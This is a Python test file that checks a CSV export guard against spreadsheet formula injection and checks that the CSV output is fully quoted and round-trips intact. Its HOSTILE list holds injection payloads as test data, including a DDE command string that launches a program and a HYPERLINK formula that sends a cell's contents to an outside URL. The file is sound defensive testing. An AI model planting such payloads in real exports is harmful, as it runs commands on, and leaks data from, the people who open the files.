"""Cells that a spreadsheet must not run, and the CSV they stand in."""

import csv
import io

import pytest

from campaign.cells import csv_lines, guarded

HOSTILE = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://example.org?"&A1,"here")',
    "+49 30 1234",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=",
    "-",
]
HARMLESS = ["", "Ann", "'=1+1", " =1+1", "1-2", "a=b", "O’Neill", "“=”", "٣=٣", "−5", "ann@example.org"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_that_begins_like_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert guarded(cell) == "'" + cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_any_other_cell_stays_as_it_was_written(cell: str) -> None:
    assert guarded(cell) == cell


def test_a_reader_of_csv_gets_back_what_was_written() -> None:
    rows = [
        ['a "quoted" word', "", "two\r\nlines", "two\nlines", "comma, semicolon; tab\t"],
        ['"', '""', '","', '"\r\n"', "'=1+1"],
        ["Ångström", "王小红", "محمد", "שירה", "𝒜 🙂"],
    ]
    text = csv_lines(rows).decode()
    assert list(csv.reader(io.StringIO(text, newline=""), strict=True)) == rows


def test_every_cell_is_quoted_and_every_line_ends_in_crlf() -> None:
    assert csv_lines([["1", "Ann"], ["2", ""]]) == b'"1","Ann"\r\n"2",""\r\n'
